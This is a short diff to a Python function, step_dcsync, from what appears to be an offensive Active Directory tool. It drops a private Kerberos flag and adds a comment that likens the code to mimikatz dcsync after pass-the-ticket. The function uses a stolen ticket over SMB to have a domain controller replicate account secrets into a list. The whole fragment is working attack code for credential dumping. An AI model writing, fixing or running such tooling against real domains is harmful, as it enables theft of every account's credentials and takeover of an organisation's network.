@@ -706,11 +706,9 @@ def step_dcsync(args):
 
     c = creds_from(args)
     conn = smb(**c)
+    # with a ticket, RemoteOperations authenticates DRSUAPI with Kerberos (GSS_NEGOTIATE) from
+    # the SMB connection's TGT, as mimikatz lsadump::dcsync after pass-the-ticket would
     kerberos = c.get("kerberos_tgt") is not None
-    if kerberos:
-        # RemoteOperations re-authenticates DRSUAPI with the SMB connection's credentials; give
-        # it the ticket so it can ask for the ldap/E3514235-... service ticket itself
-        conn._SMBConnection__kerberos = True
     ro = RemoteOperations(conn, kerberos, DC)
     secrets: list[str] = []
 
